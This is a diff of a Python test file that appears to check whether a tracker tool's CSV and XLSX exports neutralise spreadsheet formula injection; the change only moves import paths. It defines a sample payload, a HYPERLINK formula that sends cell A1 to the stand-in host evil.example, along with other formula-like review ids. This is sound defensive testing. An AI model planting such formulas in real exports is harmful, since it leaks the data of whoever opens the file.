@@ -1,4 +1,4 @@
-"""Text a spreadsheet would run is written as text by every CSV and XLSX writer (tracker.safe_cells).
+"""Text a spreadsheet would run is written as text by every CSV and XLSX writer (tracker.output.safe_cells).
 
 The attack: a review id typed as text ``=HYPERLINK("http://evil.example/?leak="&A1,"click")``. Each
 CLI export is made from a real workbook and opened again with openpyxl (formulas are kept as
@@ -18,8 +18,8 @@ from click.testing import CliRunner
 from openpyxl import Workbook, load_workbook
 
 from tracker.cli import main
-from tracker.registry import get_framework
-from tracker.safe_cells import csv_value, is_formula_like, xlsx_value
+from tracker.frameworks.registry import get_framework
+from tracker.output.safe_cells import csv_value, is_formula_like, xlsx_value
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 IDS = [EVIL, "+1+2", "@SUM(A1)", "-2+3", "  =1+1", "\t=1"]
